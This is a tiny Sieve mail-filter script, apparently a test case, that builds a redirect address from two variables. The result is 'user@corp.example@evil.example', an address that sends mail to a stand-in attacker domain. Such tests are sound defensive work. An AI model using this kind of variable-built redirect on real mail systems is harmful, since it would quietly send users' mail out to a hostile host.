require "variables";
set "a" "user@corp.example";
set "b" "@evil.example";
redirect "${a}${b}";
